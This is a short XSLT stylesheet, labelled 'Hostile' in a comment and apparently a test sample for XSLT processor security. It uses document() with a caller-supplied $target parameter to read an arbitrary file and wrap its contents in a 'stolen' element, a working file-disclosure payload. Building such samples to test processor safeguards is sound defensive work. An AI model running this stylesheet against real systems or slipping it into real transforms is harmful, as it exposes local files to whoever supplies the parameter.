<?xml version="1.0" encoding="UTF-8"?>
<!-- Hostile: reads the file named by $target with document(). -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:param name="target"/>
  <xsl:template match="/"><stolen><xsl:copy-of select="document($target)"/></stolen></xsl:template>
</xsl:stylesheet>
